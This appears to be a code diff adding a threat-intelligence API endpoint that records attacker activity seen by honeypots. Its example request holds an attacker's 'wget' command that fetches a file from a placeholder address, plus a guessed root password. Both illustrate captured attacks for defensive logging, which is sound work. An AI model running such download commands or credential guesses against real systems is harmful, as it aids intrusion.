@@ -1,0 +1,96 @@
+"""``POST /api/trap-intel``: what honeypots saw."""
+
+from typing import Annotated, Any, Final, Literal
+
+import msgspec
+from msgspec import Meta
+
+from threatcloud.domain.report import SOURCE_PATTERN
+from threatcloud.http.answer import Answer, ok
+from threatcloud.http.endpoint import Access, Call, Endpoint, RateClass
+from threatcloud.http.wire import Shape
+from threatcloud.services.trapping import Interaction, Visit
+
+MAX_INTERACTIONS: Final = 1000
+MAX_CREDENTIALS: Final = 1000
+MAX_PAYLOADS: Final = 100
+
+
+class InteractionItem(msgspec.Struct):
+    """One thing a visitor did. Where the action says ``command``, ``exec``, ``shell`` or ``input``, data is read."""
+
+    timestamp: str
+    action: Annotated[str, Meta(min_length=1, max_length=64)]
+    data: Annotated[Any, Meta(description="a text, or an object with the `command`")] = None
+
+
+class Credential(msgspec.Struct):
+    """A pair that was tried; the password is kept as a keyed digest only."""
+
+    username: Annotated[str, Meta(max_length=256)]
+    password: Annotated[str, Meta(max_length=256)]
+
+
+class TrapBody(msgspec.Struct, rename="camel"):
+    """One visit to a honeypot."""
+
+    trap_id: Annotated[str, Meta(pattern=SOURCE_PATTERN)]
+    attacker_ip: Annotated[str, Meta(min_length=1, max_length=64)]
+    honeypot_type: Literal["ssh", "http", "ftp", "smtp", "custom"]
+    interactions: Annotated[list[InteractionItem], Meta(min_length=1, max_length=MAX_INTERACTIONS)]
+    credentials: Annotated[list[Credential], Meta(max_length=MAX_CREDENTIALS)] = []
+    payloads: Annotated[
+        list[Annotated[str, Meta(max_length=128)]], Meta(max_length=MAX_PAYLOADS, description="SHA-256 digests")
+    ] = []
+
+
+class TrapShape(Shape):
+    """What became of it: the attacker's indicator, by how much its reputation moved, the campaign it falls in."""
+
+    ioc_id: str
+    reputation_delta: int
+    campaign_match: str | None
+
+
+async def report_visit(call: Call) -> Answer:
+    """Stores one visit."""
+    body: TrapBody = call.body
+    visit = Visit(
+        body.trap_id,
+        body.attacker_ip,
+        body.honeypot_type,
+        [Interaction(item.timestamp, item.action, item.data) for item in body.interactions],
+        [(item.username, item.password) for item in body.credentials],
+        body.payloads,
+    )
+    done = await call.services.trapping.report(visit, call.caller)
+    return ok(TrapShape(done.ioc_id, done.reputation_delta, None), 201)
+
+
+ENDPOINTS: Final = (
+    Endpoint(
+        method="POST",
+        path="/api/trap-intel",
+        summary="Report a visit to a honeypot",
+        description="The attacker, the payloads, and the URLs, domains and addresses that executed commands name "
+        "become indicators, related to each other.",
+        access=Access.REPORT,
+        rate=RateClass.WRITE,
+        handler=report_visit,
+        body=TrapBody,
+        answer=TrapShape,
+        status=201,
+        tag="Reports",
+        errors=("busy",),
+        example={
+            "trapId": "trap-1",
+            "attackerIp": "203.0.113.7",
+            "honeypotType": "ssh",
+            "interactions": [
+                {"timestamp": "2026-03-07T08:15:00.000Z", "action": "login", "data": {"username": "root"}},
+                {"timestamp": "2026-03-07T08:15:09.000Z", "action": "command", "data": "wget http://203.0.113.9/x"},
+            ],
+            "credentials": [{"username": "root", "password": "123456"}],
+        },
+    ),
+)
